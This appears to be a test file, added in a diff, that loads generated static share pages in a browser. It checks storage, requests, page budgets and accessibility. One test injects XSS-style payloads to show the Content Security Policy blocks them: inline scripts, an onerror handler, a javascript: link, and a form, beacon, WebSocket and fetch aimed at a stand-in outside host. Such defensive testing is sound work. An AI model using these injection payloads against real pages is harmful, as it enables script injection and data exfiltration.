@@ -1,0 +1,268 @@
+"""The example's share pages, as ``groundswell share build`` writes them, in a real browser.
+
+Whether they are opened from a disk or from ``share serve``, they ask for nothing but their own
+files, keep nothing, and run nothing but their own scripts.
+"""
+
+from __future__ import annotations
+
+from contextlib import ExitStack
+from dataclasses import dataclass, field
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, Literal
+from urllib.parse import unquote
+
+import pytest
+from helpers.browser import watch
+from helpers.cli import ROOT
+from helpers.extras import WANTED, skip_without
+from helpers.share_folders import serve_built
+
+from bot.config import load
+from bot.services.share_page import build_share_pages
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator, Mapping
+
+    from playwright.sync_api import Browser, BrowserContext, Page, ViewportSize
+
+DAY = datetime(2022, 7, 11, 12, tzinfo=UTC)
+PARTNERS = (None, "athena")
+WAYS = ("disk", "server")
+PAGES = ("index.html", "people-over-profit/index.html", "people-over-profit/es/index.html")
+AXE = Path(__file__).parents[1] / "node_modules/axe-core/axe.min.js"
+PHONE: ViewportSize = {"width": 390, "height": 844}
+COMPUTER: ViewportSize = {"width": 1360, "height": 900}
+SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")
+
+MOST_BYTES = 100_000
+"""The budget of a page without its pictures."""
+MOST_CPU_SECONDS = 3.0
+"""The budget of the processor's time for a page, on a quarter of this machine's speed. It took 0.5
+in November 2026."""
+
+
+@pytest.fixture(scope="module")
+def public(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str | None, Path]:
+    """Return the built folder of the organisation, and that of its partner."""
+    config = load(ROOT / "config.example.yaml", {})
+    folders = {partner: tmp_path_factory.mktemp("public") for partner in PARTNERS}
+    for partner, folder in folders.items():
+        built = build_share_pages(config, folder, DAY, partner=partner, pretended=True)
+        assert built.warnings == ()
+    return folders
+
+
+@dataclass
+class Visit:
+    """A visitor's browser, with all that its pages asked for and said."""
+
+    context: BrowserContext
+    root: str
+    """The address of the folder."""
+    requests: set[str] = field(default_factory=set)
+    """What was asked for, as paths in the folder or whole addresses of anything else."""
+    faults: list[str] = field(default_factory=list)
+    """Errors, dialogs, lines of the console and violations of the policy."""
+
+    def open(self, path: str) -> Page:
+        tab = self.context.new_page()
+        watched = watch(tab, "file:", "http:", "https:", "data:")
+        tab.on("close", lambda _: self.faults.extend(watched))
+        tab.goto(f"{self.root}/{path}")
+        return tab
+
+
+@dataclass
+class Visits:
+    """Makes visits to folders, and ends them."""
+
+    browser: Browser
+    stack: ExitStack
+
+    def begin(self, folder: Path, way: str = "disk", **options: Any) -> Visit:
+        root = folder.as_uri()
+        if way == "server":
+            root = self.stack.enter_context(serve_built(folder)).url
+        context = self.browser.new_context(**{"viewport": PHONE, **options})
+        self.stack.callback(context.close)
+        visit = Visit(context, root)
+        context.on(
+            "request", lambda one: visit.requests.add(unquote(one.url).removeprefix(f"{root}/"))
+        )
+        return visit
+
+
+@pytest.fixture
+def visits(browser: Browser) -> Iterator[Visits]:
+    with ExitStack() as stack:
+        yield Visits(browser, stack)
+
+
+# --- Nothing elsewhere, and nothing kept ----------------------------------------------------------
+
+KEPT = """async () => ({
+  cookies: document.cookie,
+  local: localStorage.length,
+  session: sessionStorage.length,
+  databases: (await indexedDB.databases()).length,
+  caches: isSecureContext && self.caches ? (await caches.keys()).length : 0,
+  workers: isSecureContext && navigator.serviceWorker && location.protocol !== 'file:'
+    ? (await navigator.serviceWorker.getRegistrations()).length : 0,
+  name: window.name,
+  history: JSON.stringify(history.state),
+})"""
+NOTHING = dict.fromkeys(("local", "session", "databases", "caches", "workers"), 0) | {
+    "cookies": "",
+    "name": "",
+    "history": "null",
+}
+SHARES = "navigator.canShare = () => true; navigator.share = async () => {};"
+
+
+def use(tab: Page) -> None:
+    """Do all that a visitor can do on a page without leaving it."""
+    if tab.locator(".wording").count():
+        for box in tab.locator(".wording textarea").all():
+            box.fill("My own words, with https://elsewhere.example/picture.png in them")
+        for name in ("[data-copy=text]", "[data-copy=link]", "[data-share]"):
+            tab.locator(f".wording {name}").first.click()
+        tab.locator(".pictures button").first.click()
+        tab.get_by_role("status").get_by_text("C").wait_for()
+        tab.locator("summary").click()
+    for picture in tab.locator("img").all():
+        picture.scroll_into_view_if_needed()
+        assert picture.evaluate("e => e.decode().then(() => e.naturalWidth)") == 1200
+    tab.emulate_media(color_scheme="dark")
+    tab.emulate_media(media="print")
+
+
+@pytest.mark.parametrize("way", WAYS)
+@pytest.mark.parametrize("partner", PARTNERS)
+def test_a_visit_asks_for_the_folders_own_files_and_keeps_nothing(
+    visits: Visits, public: Mapping[str | None, Path], partner: str | None, way: str
+) -> None:
+    folder = public[partner]
+    visit = visits.begin(folder, way, permissions=["clipboard-read", "clipboard-write"])
+    visit.context.add_init_script(SHARES)
+    assert {str(path.relative_to(folder)) for path in folder.rglob("*.html")} == {*PAGES}
+    for path in PAGES:
+        tab = visit.open(path)
+        use(tab)
+        assert tab.evaluate(KEPT) == NOTHING
+        tab.close()
+    assert visit.context.storage_state(indexed_db=True) == {"cookies": [], "origins": []}
+    assert visit.faults == []
+    pictures = {f"people-over-profit/pictures/{one.name}" for one in folder.rglob("pictures/*")}
+    assert len(pictures) == 2
+    assert {one for one in visit.requests if not one.startswith("data:")} == {*PAGES, *pictures}
+
+
+def test_a_picture_is_downloaded_as_it_lies_in_the_folder(
+    visits: Visits, public: Mapping[str | None, Path]
+) -> None:
+    folder = public[None]
+    tab = visits.begin(folder, "server").open(PAGES[2])
+    with tab.expect_download() as download:
+        tab.locator(".pictures a").first.click()
+    name = download.value.suggested_filename
+    assert name.startswith("hart-")
+    path = folder / "people-over-profit/pictures" / name
+    assert Path(download.value.path()).read_bytes() == path.read_bytes()
+
+
+# --- Nothing runs but the page's own scripts ------------------------------------------------------
+
+INJECT = """() => {
+  const add = html => document.body.insertAdjacentHTML('beforeend', html);
+  const script = document.createElement('script');
+  script.textContent = 'window.ran = "an inline script"';
+  document.body.append(script);
+  const other = document.createElement('script');
+  other.src = 'https://elsewhere.example/a.js';
+  document.body.append(other);
+  add('<img src="https://elsewhere.example/a.png" onerror="window.ran = \\'a handler\\'">');
+  add('<iframe src="https://elsewhere.example/"></iframe><object data="a.swf"></object>');
+  add('<p style="background: url(https://elsewhere.example/b.png)">styled</p>');
+  add('<form action="https://elsewhere.example/" id="attack"><input name="a"></form>');
+  add('<a id="link" href="javascript:window.ran = \\'a link\\'">link</a>');
+  document.getElementById('link').click();
+  document.getElementById('attack').requestSubmit();
+  try { new WebSocket('wss://elsewhere.example/'); } catch { }
+  navigator.sendBeacon('https://elsewhere.example/', 'a');
+  return fetch('https://elsewhere.example/').then(() => 'fetched', () => 'refused');
+}"""
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_the_policy_stops_all_that_somebody_could_put_into_a_page(
+    visits: Visits, public: Mapping[str | None, Path], way: str
+) -> None:
+    visit = visits.begin(public[None], way)
+    tab = visit.open(PAGES[1])
+    ends: dict[str, str | None] = {}
+    tab.on("requestfinished", lambda one: ends.update({one.url: None}))
+    tab.on("requestfailed", lambda one: ends.update({one.url: one.failure}))
+    assert tab.evaluate(INJECT) == "refused"
+    tab.wait_for_load_state("networkidle")
+    assert tab.evaluate("window.ran ?? 'nothing'") == "nothing"
+    assert tab.url == f"{visit.root}/{PAGES[1]}"
+    tab.close()
+    said = "\n".join(visit.faults)
+    for directive in (
+        *("script-src-elem", "script-src-attr", "img-src", "style-src-attr", "form-action"),
+        *("connect-src", "frame-src"),
+    ):
+        assert f"policy: {directive}" in said, directive
+    assert set(ends.values()) == {"csp"}
+
+
+# --- Budgets --------------------------------------------------------------------------------------
+
+SHIFTS = """window.shifts = 0;
+new PerformanceObserver(list => list.getEntries().forEach(one => { window.shifts += one.value; }))
+  .observe({ type: 'layout-shift', buffered: true });"""
+
+
+@pytest.mark.parametrize("viewport", [PHONE, COMPUTER], ids=["phone", "computer"])
+def test_a_page_is_light_and_nothing_on_it_moves(
+    visits: Visits, public: Mapping[str | None, Path], viewport: ViewportSize
+) -> None:
+    folder = public["athena"]  # whose own texts come on top
+    visit = visits.begin(folder, "server", viewport=viewport)
+    for path in PAGES:
+        assert (folder / path).stat().st_size < MOST_BYTES, path
+        visit.requests.clear()
+        tab = visit.context.new_page()
+        tab.add_init_script(SHIFTS)
+        devtools = visit.context.new_cdp_session(tab)
+        devtools.send("Emulation.setCPUThrottlingRate", {"rate": 4})
+        devtools.send("Performance.enable")
+        tab.goto(f"{visit.root}/{path}", wait_until="networkidle")
+        metrics = devtools.send("Performance.getMetrics")["metrics"]
+        assert {one["name"]: one["value"] for one in metrics}["ThreadTime"] < MOST_CPU_SECONDS
+        assert visit.requests - {"data:,"} == {path}, "pictures load as soon as one comes near"
+        tab.evaluate("scrollTo({ top: document.body.scrollHeight, behavior: 'instant' })")
+        tab.wait_for_load_state("networkidle")
+        assert tab.evaluate("shifts") == 0
+        tab.close()
+
+
+def test_axe_finds_no_fault(visits: Visits, public: Mapping[str | None, Path]) -> None:
+    if not (WANTED and AXE.exists()):
+        skip_without("axe-core", "npm ci --prefix tests --ignore-scripts")
+    visit = visits.begin(public["athena"], bypass_csp=True)
+    for path in PAGES:
+        tab = visit.open(path)
+        tab.evaluate(AXE.read_text(encoding="utf-8"))
+        for scheme in SCHEMES:
+            tab.emulate_media(color_scheme=scheme)
+            found = tab.evaluate("axe.run({resultTypes: ['violations']})")
+            assert len(found["passes"]) > 12, "axe looked at next to nothing"
+            assert [
+                f"{path}, {scheme}: {violation['id']}: {node['html'][:200]}"
+                for violation in found["violations"]
+                for node in violation["nodes"]
+            ] == []
+        tab.close()
